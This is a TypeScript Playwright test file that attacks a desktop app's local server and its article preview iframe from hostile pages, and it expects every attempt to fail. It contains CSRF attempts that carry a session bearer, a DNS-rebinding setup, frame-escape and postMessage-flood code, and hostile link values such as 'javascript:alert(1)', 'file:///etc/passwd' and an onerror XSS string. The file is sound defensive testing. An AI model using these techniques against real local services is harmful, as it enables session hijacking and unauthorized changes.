/** The browser host and the preview, attacked from pages in a real Chromium. */

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { existsSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page } from "@playwright/test";
import { expect, test, type Galley } from "../support/app.ts";
import { previewFrame } from "../support/inert.ts";

// Every attempt is an error of the page that makes it.
test.use({ expectedComplaints: [/./] });

/** A hostile site on a port of its own, and whatever was asked of it. */
async function hostileSite(
  html = "",
): Promise<{ readonly port: number; readonly asked: string[]; readonly server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.setHeader("content-type", "text/html");
    response.end(`<!doctype html><title>Evil</title>${html}`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { port: (server.address() as AddressInfo).port, asked, server };
}

interface Target {
  readonly app: string;
  readonly session: string | null;
  readonly folder: string;
}

async function targetOf({ page, folder }: Galley): Promise<Target> {
  await expect(page.getByRole("grid", { name: "Articles" })).toBeVisible();
  const session = await page.evaluate(() => sessionStorage.getItem("galley-session"));
  expect(session).toMatch(/^[\w-]{43}$/);
  return { app: new URL(page.url()).origin, session, folder };
}

/** What every page can send without being asked, each with the session that it must never have. */
async function sendEverything({ app, session }: Target): Promise<string[]> {
  const got: string[] = [];
  const body = JSON.stringify({ theme: "dark" });
  const bearer = { authorization: `Bearer ${session}` };
  const call = `${app}/call/settings.change`;
  const attempts: readonly [string, () => Promise<unknown>][] = [
    [
      "json",
      () => fetch(call, { method: "POST", body, headers: { ...bearer, "content-type": "application/json" } }),
    ],
    ["text", () => fetch(call, { method: "POST", body, headers: { "content-type": "text/plain" } })],
    ["no-cors", () => fetch(call, { method: "POST", body, mode: "no-cors" })],
    ["keepalive", () => fetch(call, { method: "POST", body, keepalive: true, mode: "no-cors" })],
    ["credentials", () => fetch(call, { method: "POST", body, credentials: "include" })],
    ["get", () => fetch(`${call}?theme=dark&session=${session}`)],
    ["page", () => fetch(`${app}/`)],
    ["token", () => fetch(`${app}/session`, { method: "POST", body: '{"token":"x"}' })],
  ];
  for (const [name, attempt] of attempts) {
    await attempt().then(
      (response) => {
        if ((response as Response).type !== "opaque") got.push(name);
      },
      () => undefined,
    );
  }
  navigator.sendBeacon(call, new Blob([body], { type: "text/plain" }));
  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const frame = document.createElement("iframe");
    frame.name = `f${enctype}`;
    const form = Object.assign(document.createElement("form"), {
      action: call,
      method: "POST",
      enctype,
      target: frame.name,
    });
    const field = Object.assign(document.createElement("input"), {
      name: '{"theme":"dark","x":"',
      value: '"}',
    });
    form.append(field);
    document.body.append(frame, form);
    form.submit();
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  for (const protocols of [[], ["galley", String(session)]]) {
    const opened = await new Promise((resolve) => {
      const socket = new WebSocket(`${app.replace("http", "ws")}/events`, protocols);
      socket.addEventListener("open", () => resolve(true));
      socket.addEventListener("error", () => resolve(false));
    });
    if (opened) got.push("socket");
  }
  const source = new EventSource(`${app}/events`);
  if (
    await new Promise((resolve) => {
      source.addEventListener("open", () => resolve(true));
      source.addEventListener("error", () => resolve(false));
    })
  )
    got.push("event source");
  source.close();
  return got;
}

/** Nothing was done: the setting that every attempt wants to change is as it was, and the window works. */
async function expectNothingDone({ page, userData }: Galley): Promise<void> {
  const stored = join(userData, "settings.json");
  const settings = existsSync(stored) ? await readFile(stored, "utf8") : "";
  expect(settings).not.toContain("dark");
  await expect(page.locator("html")).not.toHaveAttribute("data-theme", "dark");
  await expect(page.getByRole("grid", { name: "Articles" })).toBeVisible();
}

test("[SE5] another port of this machine, and a frame without an origin, send everything in vain", async ({
  openGalley,
}) => {
  const galley = await openGalley();
  const target = await targetOf(galley);
  const { port, server } = await hostileSite();
  const evil = await galley.page.context().newPage();
  for (const host of ["127.0.0.1", "localhost"]) {
    await evil.goto(`http://${host}:${port}/`);
    expect(await evil.evaluate(sendEverything, target), host).toEqual([]);
    expect(
      await evil.evaluate(sendEverything, { ...target, app: target.app.replace("127.0.0.1", "localhost") }),
      host,
    ).toEqual([]);
  }
  // Without an origin: "null" is the Origin that is sent.
  await evil.setContent(
    '<iframe id="nobody" sandbox="allow-scripts allow-forms" srcdoc="<p>Nobody</p>"></iframe>',
  );
  const nobody = evil.frames().find((frame) => frame.parentFrame() !== null);
  if (!nobody) throw new Error("no frame");
  expect(await nobody.evaluate(() => origin)).toBe("null");
  expect(await nobody.evaluate(sendEverything, target)).toEqual([]);
  server.close();
  await expectNothingDone(galley);
  console.log("S5 5 origins, 16 ways each: 0 side effects");
});

test("[SE5] a window that a page opens to the app is out of its reach", async ({ openGalley }) => {
  const galley = await openGalley();
  const target = await targetOf(galley);
  const { port, server } = await hostileSite();
  const evil = await galley.page.context().newPage();
  await evil.goto(`http://127.0.0.1:${port}/`);
  const reached = await evil.evaluate(async ({ app }) => {
    const opened = window.open(`${app}/`);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const got: string[] = [];
    try {
      if (opened && !opened.closed && opened.length > 0) got.push("frames");
      opened?.postMessage({ galley: "preview", kind: "link", href: "https://evil.example/" }, "*");
      void opened?.document.title;
      got.push("document");
    } catch {
      // As it should be.
    }
    return got;
  }, target);
  expect(reached).toEqual([]);
  server.close();
  await expectNothingDone(galley);
});

test("[SE5] a name that is bound anew to this machine is not ours", async ({
  openGalley,
  playwright,
  launchOptions,
}) => {
  const galley = await openGalley();
  const target = await targetOf(galley);
  const port = new URL(target.app).port;
  const { port: evilPort, server } = await hostileSite();
  // Its own browser, for which the attacker's name leads here.
  const browser = await playwright.chromium.launch({
    ...launchOptions,
    args: [...(launchOptions.args ?? []), "--host-resolver-rules=MAP rebound.test 127.0.0.1"],
  });
  const page = await browser.newPage();
  const answer = await page.goto(`http://rebound.test:${port}/`);
  expect(answer?.status()).toBe(403);
  // The page of the same origin, as after a rebinding: it may read, but there is nothing to read.
  expect(
    await page.evaluate(async ({ session }) => {
      const asked = await fetch("/call/settings.change", {
        method: "POST",
        body: '{"theme":"dark"}',
        headers: { authorization: `Bearer ${session}`, "content-type": "application/json" },
      }).then(
        ({ status }) => status,
        () => "failed",
      );
      return asked;
    }, target),
  ).not.toBe(200);
  await page.goto(`http://rebound.test:${evilPort}/`);
  expect(await page.evaluate(sendEverything, { ...target, app: `http://rebound.test:${port}` })).toEqual([]);
  expect(await page.evaluate(sendEverything, target)).toEqual([]);
  await browser.close();
  server.close();
  await expectNothingDone(galley);
});

const probe = async (folder: string) => {
  await mkdir(join(folder, "posts"), { recursive: true });
  await writeFile(join(folder, "posts", "probe.md"), "---\ntitle: Probe\n---\n\nText of the article.\n");
};

async function openProbe(page: Page): Promise<void> {
  await page.getByRole("row", { name: /Probe/ }).first().dblclick();
  await expect(page.frameLocator("iframe.preview-frame").getByText("Text of the article.")).toBeVisible({
    timeout: 30_000,
  });
}

test("[SE6] whatever runs in the preview stays there", async ({ openGalley }) => {
  const galley = await openGalley({ prepare: probe });
  const { page } = galley;
  const target = await targetOf(galley);
  const { port, asked, server } = await hostileSite();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openProbe(page);
  const pages = page.context().pages().length;
  const frame = await previewFrame(page);
  const outcome = await frame.evaluate(
    async ({ app, session, evil }) => {
      const got: string[] = [];
      const attempt = (name: string, what: () => unknown) => {
        try {
          if (what()) got.push(name);
        } catch {
          // As it should be.
        }
      };
      attempt("parent document", () => parent.document.body);
      attempt("top document", () => top?.document.body);
      attempt("parent storage", () => parent.sessionStorage.length);
      attempt("bridge", () => "galley" in parent && (parent as unknown as { galley: unknown }).galley);
      attempt("window", () => window.open(evil, "_blank"));
      attempt("window over the top", () => window.open(evil, "_top"));
      attempt("alert", () => {
        alert("hit");
        return confirm("hit") || prompt("hit");
      });
      attempt("full screen", () => void document.documentElement.requestFullscreen().catch(() => undefined));
      attempt("top location", () => {
        (top as Window).location.href = evil;
        return false;
      });
      for (const anchor of ["_top", "_parent", "_blank"]) {
        const link = Object.assign(document.createElement("a"), { href: evil, target: anchor });
        document.body.append(link);
        HTMLElement.prototype.click.call(link);
        const form = Object.assign(document.createElement("form"), {
          action: evil,
          method: "POST",
          target: anchor,
        });
        document.body.append(form);
        attempt("form", () => {
          form.submit();
          return false;
        });
      }
      for (const address of [`${app}/`, `${app}/call/settings.change`, evil]) {
        await fetch(address, {
          method: "POST",
          body: '{"theme":"dark"}',
          headers: { authorization: `Bearer ${session}` },
        }).then(
          () => got.push(`fetch ${address}`),
          () => undefined,
        );
      }
      const worker = (navigator as { serviceWorker?: ServiceWorkerContainer }).serviceWorker;
      await worker?.register("/client.js").then(
        () => got.push("service worker"),
        () => undefined,
      );
      attempt("worker", () => new Worker("/client.js"));
      attempt("cookie", () => {
        document.cookie = "a=1";
        return false;
      });
      for (const permission of [
        "geolocation",
        "camera",
        "microphone",
        "clipboard-read",
      ] as PermissionName[]) {
        await navigator.permissions.query({ name: permission }).then(
          ({ state }) => state === "granted" && got.push(permission),
          () => undefined,
        );
      }
      const inner = document.createElement("iframe");
      inner.src = `${app}/`;
      document.body.append(inner);
      await new Promise((resolve) => setTimeout(resolve, 500));
      attempt("the app in a frame", () => inner.contentDocument?.querySelector("#root"));
      return got;
    },
    { ...target, evil: `http://127.0.0.1:${port}/taken` },
  );
  expect(outcome).toEqual([]);
  await page.waitForTimeout(500);
  expect(dialogs).toEqual([]);
  expect(asked).toEqual([]);
  expect(page.context().pages()).toHaveLength(pages);
  expect(new URL(page.url()).origin).toBe(target.app);
  // Cookies cross ports, which is why Galley has none: the app's next call goes without, and is answered.
  await expect(page.getByRole("button", { name: "Restricted", exact: true })).toBeVisible();
  await expect(page.getByRole("textbox", { name: "Article text" })).toContainText("Text of the article.");
  server.close();
  console.log("S6 28 ways out of the preview: contained");
});

test("[SE6] a flood of messages and messages of strangers change nothing", async ({ openGalley }) => {
  const { page } = await openGalley({ prepare: probe });
  await openProbe(page);
  const frame = await previewFrame(page);
  await frame.evaluate((app) => {
    const bad = [
      null,
      "x".repeat(10_000),
      { galley: "preview", kind: "nonsense" },
      { galley: "preview", kind: "scroll", block: Number.NaN, fraction: 9 },
      { galley: "preview", kind: "scroll", block: 1e9, fraction: 0.5 },
      { galley: "preview", kind: "link", href: { toString: 1 } },
      { galley: "preview", kind: "error", message: "<img src=x onerror=hit()>".repeat(100) },
      { kind: "ready" },
      { event: "library.changed", value: {} },
      { ok: true, value: {} },
    ];
    for (let index = 0; index < 10_000; index += 1) parent.postMessage(bad[index % bad.length], app);
  }, new URL(page.url()).origin);
  // A stranger who says the right thing: the window itself, and another frame.
  await page.evaluate(() => {
    const told = { galley: "preview", kind: "link", href: "https://evil.example/" };
    window.postMessage(told, "*");
    const stranger = document.createElement("iframe");
    stranger.srcdoc = "<p>x</p>";
    document.body.append(stranger);
  });
  await expect(page.getByRole("alertdialog")).toHaveCount(0);
  const text = page.getByRole("textbox", { name: "Article text" });
  await text.click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type(" Still here");
  await expect(page.frameLocator("iframe.preview-frame").getByText("Still here")).toBeVisible();
});

test("[SE7] a link of a scheme that runs something is named and not opened", async ({ openGalley }) => {
  const { page } = await openGalley({ prepare: probe });
  await openProbe(page);
  const frame = await previewFrame(page);
  for (const href of [
    "javascript:alert(1)",
    "file:///etc/passwd",
    "vscode://x",
    "data:text/html,x",
    "http://user:pass@host/",
  ]) {
    await frame.evaluate(
      ([address, app]) => parent.postMessage({ galley: "preview", kind: "link", href: address }, String(app)),
      [href, new URL(page.url()).origin],
    );
    const dialog = page.getByRole("alertdialog");
    await expect(dialog).toContainText("This link is not opened");
    await expect(dialog.getByRole("button")).toHaveCount(1);
    await page.keyboard.press("Escape");
    await expect(dialog).toBeHidden();
  }
});
